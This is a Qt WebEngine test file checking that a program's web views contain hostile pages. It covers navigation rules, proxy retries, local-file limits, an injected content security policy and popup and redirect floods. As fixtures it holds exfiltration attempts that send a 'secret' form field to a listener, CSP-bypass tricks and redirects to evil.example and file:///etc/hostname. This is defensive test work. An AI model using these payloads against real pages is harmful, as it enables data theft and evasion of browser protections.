// What the program's web views let a page do, in the real web engine: where
// the window may go and what a page asks of the desktop; and which desktops
// get the software scene graph for them.
#include <QApplication>
#include <QQuickWindow>
#include <QWebEnginePage>

#include "fakes/support.h"

#include "webview/local_fence.h"
#include "webview/local_pages.h"
#include "webview/navigation_rule.h"
#include "webview/scene_graph.h"
#include "webview/webengine_view.h"

using namespace qvestra;
using namespace qvestra::webview;
using namespace qvestra::testing;
using namespace Qt::StringLiterals;
using namespace std::string_literals;
Q_DECLARE_METATYPE(qvestra::webview::Navigation)

namespace {

const ServiceOrigin kService{QStringLiteral("svc.test"), 80};

// What the desktop browser was handed.
QStringList browser;

// The program's views, made once in main: the engine's profile is one for all.
WebEngineViews* views = nullptr;

// A view of the program's showing a page written to a local file, once it
// has loaded.
struct LocalView {
    QTemporaryDir dir;
    TwipsLayout layout{TwipScale(15)};
    std::unique_ptr<WebEngineView> view{
        static_cast<WebEngineView*>(views->Factory()(nullptr, layout))};

    explicit LocalView(const std::string& page) {
        WriteFile(dir.path().toStdString() + "/A-12.html", page);
        view->resize(400, 300);
        view->show();
        QSignalSpy loaded(view.get(), &QWebEngineView::loadFinished);
        view->Navigate("file://" + dir.path() + "/A-12.html");
        QVERIFY(loaded.wait(20000) && loaded.first().first().toBool());
    }
    void Run(const QString& script) { view->page()->runJavaScript(script); }
};

// What a hostile local page tries: an image, a frame, a connection and a
// form that send to the listener; the title says when it has tried.
std::string Attempts(const std::string& listener) {
    return "<img src=\"" + listener + "/img\"><iframe src=\"" + listener +
           "/frame\"></iframe><form id=\"f\" action=\"" + listener +
           "/form\"><input name=\"field\" value=\"secret\"></form><script>fetch(\"" + listener +
           "/fetch\").catch(() => {}); document.getElementById(\"f\").submit(); "
           "setTimeout(() => document.title = \"tried \" + document.characterSet, 300);</script>";
}

}  // namespace

class TestWebViews : public QObject {
    Q_OBJECT

  private Q_SLOTS:
    // First, as in the program before any view: desktops whose OpenGL runs
    // on the CPU (Xvfb's Mesa llvmpipe here, Chromium's SwiftShader) get the
    // software scene graph; a GPU driver built with LLVM is none.
    void softwareSceneGraphUnderXvfb() {
        QVERIFY(IsSoftwareRasterizer("Google SwiftShader"));
        QVERIFY(!IsSoftwareRasterizer("AMD Radeon RX 6600 (navi23, LLVM 15.0.6, DRM 3.49)"));
        PreferSoftwareSceneGraphWithoutGpu();
        QCOMPARE(QQuickWindow::sceneGraphBackend(), QStringLiteral("software"));
    }

    // Through the program's proxy, whose user the view offers once a load:
    // a proxy that refuses it is not asked again and again. A page through a
    // proxy that takes the user is the proxy end-to-end run's. Before the first
    // page, as in the program: the engine reads the route when it starts.
    void pagesComeThroughTheProgramsProxy() {
        ScriptedServer proxy(
            "HTTP/1.0 407 Proxy Authentication Required\r\n"
            "Proxy-Authenticate: Basic realm=\"school\"\r\n"
            "Content-Length: 0\r\n\r\n",
            5);
        views->UseProxy(net::HttpProxy{"127.0.0.1", proxy.Port(), "u", "p"});
        TwipsLayout layout{TwipScale(15)};
        const std::unique_ptr<WebEngineView> view(
            static_cast<WebEngineView*>(views->Factory()(nullptr, layout)));
        QSignalSpy loaded(view.get(), &QWebEngineView::loadFinished);
        view->Navigate("http://svc.test/q_vestra/Entry.asp");
        QVERIFY(loaded.wait(20000));
        // Time for a third try, which must not come.
        QTest::qWait(300);
        views->UseProxy(std::nullopt);
        QCOMPARE(QString::fromStdString(proxy.Request()).count("Proxy-Authorization: Basic dTpw"),
                 1);
        QCOMPARE(proxy.Connections(), 2);
    }

    // A local page is read only as a plain file inside its folder, up to
    // its limit, through no link on the way.
    void localFiles_data() {
        Columns<QString, bool>();
        Row("a page at the limit", "A-12.html", true);
        Row("one byte over", "big.html", false);
        Row("a link to a page", "link.html", false);
        Row("a page through a linked folder", "linked/A-12.html", false);
        Row("a folder", ".", false);
    }
    void localFiles() {
        const auto [relative, read] = Fetch<QString, bool>();
        QTemporaryDir dir;
        const std::filesystem::path folder = dir.path().toStdString();
        WriteFile(folder / "A-12.html", "12345678");
        WriteFile(folder / "big.html", "123456789");
        std::filesystem::create_symlink(folder / "A-12.html", folder / "link.html");
        std::filesystem::create_directory_symlink(folder, folder / "linked");
        const auto bytes = ReadInside(folder, relative.toStdString(), 8);
        QCOMPARE(bytes.has_value(), read);
    }

    void mainFrame_data() {
        Columns<QString, Navigation>();
        Row("the service's page", "http://svc.test/q_vestra/execute.asp?yuzaaidhi=A-12",
            Navigation::kStay);
        Row("the host in capitals", "http://SVC.TEST/q_vestra/KHenko.asp", Navigation::kStay);
        Row("the service's port written out", "http://svc.test:80/", Navigation::kStay);
        Row("a local page", "qvestra-local://page0/A-12.html", Navigation::kStay);
        Row("another host", "http://evil.example/login", Navigation::kDesktopBrowser);
        Row("the host as a prefix", "http://svc.test.evil.example/", Navigation::kDesktopBrowser);
        Row("the same host, another port", "http://svc.test:8080/", Navigation::kDesktopBrowser);
        Row("https on the service host", "https://svc.test/", Navigation::kDesktopBrowser);
        Row("a file", "file:///home/member/qvestrafolder/qvuser.txt", Navigation::kRefuse);
        Row("javascript", "javascript:alert(1)", Navigation::kRefuse);
        Row("ftp", "ftp://svc.test/", Navigation::kRefuse);
    }
    void mainFrame() {
        const auto [url, navigation] = Fetch<QString, Navigation>();
        QCOMPARE(MainFrameNavigation(QUrl(url), kService), navigation);
        QCOMPARE(PopupNavigation(QUrl(url), true),
                 navigation != Navigation::kRefuse && url.startsWith("http")
                     ? Navigation::kDesktopBrowser
                     : Navigation::kRefuse);
        QCOMPARE(PopupNavigation(QUrl(url), false), Navigation::kRefuse);
    }

    void browserHandOffsKeepTheirInterval() {
        BrowserHandOff handOff;
        const std::chrono::steady_clock::time_point start{std::chrono::hours(1)};
        QVERIFY(handOff.Allow(start));
        QVERIFY(!handOff.Allow(start + BrowserHandOff::kInterval - std::chrono::milliseconds(1)));
        QVERIFY(handOff.Allow(start + BrowserHandOff::kInterval));
        QVERIFY(!handOff.Allow(start + BrowserHandOff::kInterval + std::chrono::milliseconds(1)));
    }

    // A local page's requests stay on the local scheme and data:, whichever
    // address tells that the request comes from a local page; the window's
    // own navigation was judged by the navigation rule already.
    void localPagesRequestNothingElse_data() {
        Columns<QString, QString, bool, QString, bool>();
        const QString local = "qvestra-local://page0/A-12.html", service = "http://svc.test/";
        Row("its logo", local, local, false, "qvestra-local://page0/images/LOGO_Movei.gif", true);
        Row("a data: image", local, local, false, "data:image/gif;base64,R0lGOD", true);
        Row("an image elsewhere", local, "null", false, "http://127.0.0.1:8081/beacon", false);
        Row("known by its initiator alone", service, local, false, service, false);
        Row("going to the service", local, local, true, service, true);
        Row("a service page's image", service, service, false, service + "logo.gif", true);
    }
    void localPagesRequestNothingElse() {
        const auto [page, initiator, mainFrame, request, may] =
            Fetch<QString, QString, bool, QString, bool>();
        QCOMPARE(MayRequest({QUrl(page), QUrl(page), QUrl(initiator), mainFrame}, QUrl(request)),
                 may);
    }

    // The policy comes before every byte of the page, only a plain document
    // type line repeated in front of it; in the real engine, pages that try to
    // keep it from being read reach no other program and send no form out.
    void hostilePagesReachNothing_data() {
        Columns<std::string, std::string>();
        Row("a plain page", "<!DOCTYPE html><html><head></head><body>"s, "<!DOCTYPE html>"s);
        Row("an old document type",
            "\r\n<!DOCTYPE HTML PUBLIC \"-//W3C//DTD HTML 4.01 Transitional//EN\">"s,
            "<!DOCTYPE HTML PUBLIC \"-//W3C//DTD HTML 4.01 Transitional//EN\">"s);
        Row("no document type", ""s, ""s);
        Row("a vertical tab before the document type", "\v<!DOCTYPE html><html><body>"s, ""s);
        Row("a document type inside a comment", "<!--<!DOCTYPE html>--><html><body>"s, ""s);
        Row("a charset switch inside the document type",
            "<!DOCTYPE html \x1b$B>\x1b(B<html><head><meta charset=\"ISO-2022-JP\"></head><body>"s,
            ""s);
        Row("the page's own weaker policy",
            "<!DOCTYPE html><html><head><meta http-equiv=\"Content-Security-Policy\" "
            "content=\"default-src * 'unsafe-inline'; form-action *\"></head><body>"s,
            "<!DOCTYPE html>"s);
    }
    void hostilePagesReachNothing() {
        const auto [start, before] = Fetch<std::string, std::string>();
        const QByteArray page = QByteArray::fromStdString(start), policed = WithLocalPolicy(page);
        QCOMPARE(policed.indexOf("<meta http-equiv=\"Content-Security-Policy\""),
                 qsizetype(before.size()));
        QVERIFY(policed.startsWith(before.c_str()) && policed.endsWith(page));
        ScriptedServer listener(OkReply("GIF89a"), 4);
        browser.clear();
        LocalView local(start + Attempts(listener.Address("")));
        QTRY_COMPARE_WITH_TIMEOUT(local.view->title(), QStringLiteral("tried Shift_JIS"), 10000);
        QCOMPARE(listener.Connections(), 0);
        QVERIFY2(browser.filter("form").isEmpty(), qPrintable(browser.join(u' ')));
    }

    // A view closed as its page starts to load takes the page's request
    // along while the file is read: the answer finds nobody. The next page
    // comes after it, as the files are read one at a time.
    void aRequestGoneBeforeItsFileIsRead() {
        QTemporaryDir dir;
        WriteFile(dir.path().toStdString() + "/A-12.html", "<title>gone</title>");
        TwipsLayout layout{TwipScale(15)};
        auto* view = static_cast<WebEngineView*>(views->Factory()(nullptr, layout));
        const QPointer<QObject> gone(view);
        QObject::connect(view, &QWebEngineView::loadStarted, view, &QObject::deleteLater);
        view->Navigate("file://" + dir.path() + "/A-12.html");
        QTRY_VERIFY_WITH_TIMEOUT(!gone, 10000);
        const LocalView after("<title>after</title>");
    }

    // The window stays where it is when a page in the data folder tries to
    // send it elsewhere; web addresses go to the desktop browser, popups too;
    // what a page asks of the desktop is refused at once. What a planted
    // script in such a page can reach is tried by the offline end-to-end run.
    void aPageCannotTakeTheWindowElsewhere() {
        browser.clear();
        LocalView local(
            "<!DOCTYPE html><button style=\"position:fixed;inset:0\" "
            "onclick=\"window.open('http://clicked.example/')\">menu</button>");
        QWebEngineView& view = *local.view;
        const QUrl start = view.url();
        local.Run("location.href = 'http://evil.example/login'");
        QTRY_COMPARE_WITH_TIMEOUT(browser, QStringList{"http://evil.example/login"}, 10000);
        // Without a click: popups go nowhere, a loop of address changes
        // reaches the browser once an interval at most.
        local.Run(
            "for (let i = 0; i < 20; ++i) window.open('http://popup.example/' + i);"
            "window.open('file:///etc/hostname'); let n = 0; const loop = setInterval(() => {"
            "  location.href = 'http://flood.example/' + n;"
            "  if (++n == 200) { clearInterval(loop); document.title = 'flooded'; } }, 5);");
        QTRY_COMPARE_WITH_TIMEOUT(view.title(), QStringLiteral("flooded"), 10000);
        QVERIFY2(browser.filter("popup").isEmpty() && browser.size() <= 2,
                 qPrintable(browser.join(u' ')));
        QVERIFY(QTest::qWaitForWindowExposed(&view));
        QTest::mouseClick(view.focusProxy(), Qt::LeftButton, {}, QPoint(200, 150));
        QTRY_COMPARE_WITH_TIMEOUT(browser.last(), QStringLiteral("http://clicked.example/"), 10000);
        const qsizetype handedOver = browser.size();
        local.Run("location.href = 'file:///etc/hostname'");
        local.Run("location.href = 'data:text/html,<title>moved</title>'");
        local.Run(
            "Notification.requestPermission().then(p => document.title = 'notifications ' + p);");
        QTRY_COMPARE_WITH_TIMEOUT(view.title(), QStringLiteral("notifications denied"), 10000);
        QCOMPARE(view.url(), start);
        QCOMPARE(browser.size(), handedOver);
        // A page number beyond those handed out names nothing.
        QSignalSpy loaded(&view, &QWebEngineView::loadFinished);
        QUrl unknown = start;
        unknown.setHost(u"page999"_s);
        view.load(unknown);
        QVERIFY(loaded.wait(20000) && !loaded.last().first().toBool());
    }
};

int main(int argc, char* argv[]) {
    RegisterLocalScheme();
    if (::geteuid() == 0) qputenv("QTWEBENGINE_DISABLE_SANDBOX", "1");
    qputenv("QTWEBENGINE_CHROMIUM_FLAGS", "--disable-gpu");
    QCoreApplication::setAttribute(Qt::AA_ShareOpenGLContexts);
    QApplication app(argc, argv);
    WebEngineViews programViews(kService, [](const QUrl& url) { browser << url.toString(); });
    views = &programViews;
    TestWebViews test;
    return QTest::qExec(&test, argc, argv);
}

#include "test_web_views.moc"
